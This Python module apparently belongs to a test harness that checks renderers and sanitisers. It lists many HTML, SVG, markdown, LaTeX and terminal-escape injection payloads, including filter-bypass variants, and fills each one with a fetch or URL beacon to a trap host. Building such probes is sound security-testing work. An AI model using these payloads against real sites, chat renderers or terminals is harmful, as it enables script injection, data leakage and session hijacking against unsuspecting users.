"""Active content in every dress: HTML, markdown, formulas, escape sequences. Each asks for an address of its own."""

from __future__ import annotations

import re

HTML = r"""
<script>JS</script>
<script src="URL"></script>
<script type="module" src="URL"></script>
<SCRIPT/x src=URL></SCRIPT>
<scr<script>ipt>JS</scr</script>ipt>
<img src="URL">
<img src=URL//
<IMG SRC=URL>
<img srcset="URL 1x, URL 2x">
<img src="/trap/NAME-relative"><img src="//HOST/trap/NAME-bare">
<img src=x onerror="JS">
<img src="data:image/png;base64,AAAA" onerror="JS">
<image href="URL" src="URL">
<picture><source srcset="URL"><img alt=x></picture>
<video src="URL" poster="URL-poster" autoplay><source src="URL-source" onerror="JS"></video>
<audio src="URL" autoplay onerror="JS"></audio>
<iframe src="URL"></iframe>
<iframe srcdoc="<script>parent.JS</script>"></iframe>
<iframe src="javascript:parent.JS"></iframe>
<object data="URL"></object>
<object type="text/html" data="data:text/html,<script>JS</script>"></object>
<embed src="URL">
<link rel="stylesheet" href="URL"><link rel="preload" as="image" href="URL-preload"><link rel="prefetch" href="URL-prefetch">
<style>@import "URL"; body {background: url("URL-body")}</style>
<p style="background: url('URL')">styled</p>
<div style="position:fixed;inset:0;background-image:url(URL)">over all</div>
<table background="URL"><tr><td background="URL-td">cell</td></tr></table>
<a href="javascript:JS">click</a>
<a href=" &#1;JaVa&Tab;sCript&colon;JS">click</a>
<a href="data:text/html,<script>JS</script>">click</a>
<a href="vbscript:JS" ping="URL">click</a>
<a href="URL" ping="URL-ping" onclick="JS">click</a>
<a href="/trap/NAME-link" target=_blank>click</a>
<b onclick="JS" onmouseover="JS" onfocus="JS" tabindex=0>bold</b>
<input autofocus onfocus="JS"><select autofocus onfocus="JS"></select><textarea autofocus onfocus="JS"></textarea>
<form action="URL"><input type=submit><button formaction="javascript:JS">go</button></form>
<details open ontoggle="JS"><summary onclick="JS">more</summary></details>
<svg onload="JS"></svg>
<svg><script>JS</script></svg>
<svg><image href="URL" xlink:href="URL"></image><use href="URL#x"></use></svg>
<svg><a xlink:href="javascript:JS"><text y=20>click</text></a></svg>
<svg><animate onbegin="JS" attributeName=x dur=1s></svg>
<svg><set attributeName=href to="javascript:JS" /></svg>
<svg><foreignObject><img src="URL" onerror="JS"></foreignObject></svg>
<svg><style><img src=x onerror="JS"></style></svg>
<math><mtext><img src="URL"></mtext></math>
<math><mi xlink:href="javascript:JS" href="javascript:JS">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=URL onerror=JS&gt;">
<noscript><p title="</noscript><img src=URL onerror=JS>"></noscript>
<p title="--><img src=URL onerror=JS>">mutates</p>
<body onload="JS" background="URL">
<marquee onstart="JS" width=10>x</marquee>
<div contenteditable onblur="JS" onfocus="JS" autofocus tabindex=1>edit</div>
<video><track src="URL" default></video>
<bgsound src="URL"><layer src="URL"></layer><isindex action="javascript:JS" type=image>
<template><img src="URL"></template>
<div><template shadowrootmode="open"><img src="URL"></template></div>
<?xml-stylesheet href="URL"?><!DOCTYPE x [<!ENTITY y SYSTEM "URL">]>
<!--[if gte IE 4]><script>JS</script><![endif]-->
<!--><img src=x onerror="JS">-->
<![CDATA[<img src=x onerror="JS">]]>
<x onanimationstart="JS" style="animation: spin 1s" onpointerenter="JS" tabindex=1>custom</x>
<dialog open onclose="JS"><form method=dialog><button>x</button></form></dialog>
<button popovertarget=p onclick="JS">x</button><div popover id=p onbeforetoggle="JS">x</div>
<meta http-equiv="Content-Security-Policy" content="report-uri URL">
<title>taken over</title>
<base href="/trap/NAME-base/"><img src="relative">
<pre class="mermaid">graph LR; A@{ img: "URL" }; click A href "javascript:JS"</pre>
<div class="jupyter-widgets"><script type="application/vnd.jupyter.widget-view+json">{"model_id": "x"}</script></div>
<img\x0bsrc="URL"\x0conerror="JS"><img/src="URL"/onerror="JS">
<a\nhref="javascript:JS">click</a><img\nsrc="URL">
\u00adjava\u00adscript:JS <a href="java\u00adscript:JS">click</a><a href="\u2028javascript:JS">click</a>
</div></div></div></td></table></pre></code></textarea></title></style></script><img src="URL" onerror="JS">
""".strip().split("\n")

MARKDOWN = r"""
![a](URL)
![a](<URL>)
![a](URL "title")
!\![a](URL)
!!![a](URL)
\\![a](URL)
!\[a](URL)
![a][NAME]\n\n[NAME]: URL
![NAME-short][]\n\n[NAME-short]: URL
![NAME-mere]\n\n[NAME-mere]: <URL> 'x'
[![a](URL)](javascript:JS)
![![a](URL)](URL)
![a\](URL)](URL)
![a](data:image/svg+xml,%3Csvg%20onload=JS%3E)
![a](attachment:NAME.png)
![a](file:///etc/passwd)
[a](javascript:JS)
[a](JaVaScRiPt:JS)
[a](java&#115;cript:JS)
[a](javascript&colon;JS)
[a](java\&#115;cript:JS)
[a](&#1;javascript:JS)
[a](<javascript:JS>)
[a](<java\nscript:JS>)
[a](javascript\:JS)
[a](\x01javascript:JS)
[a]( javascript:JS "x")
[a](vbscript:JS)
[a](data:text/html,<script>JS</script>)
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a](/trap/NAME-relative)
[a][NAME-js]\n\n[NAME-js]: javascript:JS
[a][NAME-js2]\n\n[NAME-js2]:\n  javascript:JS\n  "title"
[a](x "onmouseover=JS title")
[a](x"onmouseover="JS)
[a](x 'x"onmouseover="JS')
[a](x'onmouseover='JS)
![a"onerror="JS](x)
![a'onerror='JS](x)
<javascript:JS>
<URL>
<https://x"onmouseover="JS>
&lt;script&gt;JS&lt;/script&gt;
&#60;img src=x onerror=JS&#62;
\<img src=URL>
\\<img src=URL onerror=JS>
`<img src=URL>`` <img src=URL>
``a` <img src=URL onerror=JS>
    <img src=URL>\n\n<img src=URL onerror=JS>
```\n<img src=URL>\n````<img src=URL>
~~~html\n<img src=URL>\n~~~\n<img src=URL>
```&#10;\n<img src=URL>\n```
```mermaid\n<img src=URL onerror=JS>\n```
```mermaid\n%%{init: {"themeCSS": "* {background: url(URL)}"}}%%\ngraph LR; A-->B; click A href "javascript:JS"\n```
```"><img/src=URL/onerror=JS>\nx\n```
```python"onmouseover="JS\nx\n```
> <img src=URL>
> > - <img src=URL onerror=JS>
- <script>JS</script>
1. <iframe src=URL>
| a | b |\n| - | - |\n| <img src=URL> | [x](javascript:JS) |
# <img src=URL>
Title <img src=URL onerror=JS>\n=====
*<img src=URL>*
**[a](javascript:JS)**
~~<img src=URL>~~
[^NAME]\n\n[^NAME]: <img src=URL>
- [x] <img src=URL>
<div markdown="1">\n\n![a](URL)\n\n</div>
<details>\n<summary>x</summary>\n\n![a](URL)\n\n</details>
<pre>\n\n![a](URL)\n\n<img src=URL></pre>
<p>![a](URL)\n\n![b](URL)</p>
<p title="\n\n<img src=URL onerror=JS>\n\n">
<!-- \n\n<img src=URL>\n\n -->
<!-- --!><img src=URL onerror=JS>
<code>\n\n![a](URL)</code>
$<img src=URL onerror=JS>$
$$\n<img src=URL onerror=JS>\n$$
\\(<img src=URL onerror=JS>\\)
\\[<img src=URL onerror=JS>\\]
\begin{equation}<img src=URL onerror=JS>\end{equation}
\begin{equation}\n\n<script>JS</script>\n\\end{equation}
$`<img src=URL>`$
$$ $ <img src=URL> $ $$
$\href{javascript:JS}{x}$
$$\href{URL}{\style{background:url(URL)}{x}}$$
$\require{html}\cssId{x}{\class{y}{z}}$
$\bbox[background:url(URL)]{x}$
$\mmlToken{mi}[href="javascript:JS"]{x}$
$\unicode{x41}\includegraphics{URL}$
$\text{<img src=URL onerror=JS>}$
<x@y.z onclick=JS>
{{ "<script>JS</script>" }} {% raw %}<script>JS</script>{% endraw %}
\x00<\x00img src=URL>
<\u200bimg src=URL>
\uff1cimg src=URL\uff1e
\u2028![a](URL)
![a]\u00a0(URL)
[a](java\u00adscript:JS)
""".strip().split("\n")

TERMINAL = [
    "\x1b]8;;http://HOST/trap/NAME\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07\x1b]52;c;cHduZWQ=\x07",
    "\x1b[2J\x1b[1;1H\x1b[8mhidden\x1b[0m\x1b[999999;1H\x1bc\x1b(0\x1bP+q\x1b\\",
    "\x1b[31mred\x1b[0m \x1b[38;5;999999mout of range\x1b[0m \x1b[" + "1;" * 500 + "m",
    "\x9b31mone byte\x9d8;;x\x9c \x07\x08\x7f\x0b\x0c\x00",
    "\u202egnorw yaw\u202c \u2066\u2067\u2068\u2069 \u200e\u200f\u061c \ufeff\u00ad\u2028\u2029",
    "Z" + "\u0335\u0322\u0489" * 300 + "algo",
    "\ud800 lone",
    "long " * 50_000,
    "\n" * 20_000,
]


def payloads(host: str, patterns: list[str], name: str) -> dict[str, str]:
    """Payloads by the name under which the trap hears each.

    Args:
        host: the trap's host and port.
        patterns: what is filled in.
        name: what their names begin with.
    """
    return {f"{name}{n}": _filled(pattern, host, f"{name}{n}") for n, pattern in enumerate(patterns)}


def _filled(pattern: str, host: str, name: str) -> str:
    address = f"http://{host}/trap/{name}"
    text = pattern.replace("JS", f"fetch('{address}-js')").replace("URL", address)
    text = re.sub(
        r"\\(?:n|[xu]([0-9a-f]{4}|[0-9a-f]{2}))", lambda m: chr(int(m[1], 16)) if m[1] else "\n", text
    )
    return text.replace("NAME", name).replace("HOST", host)
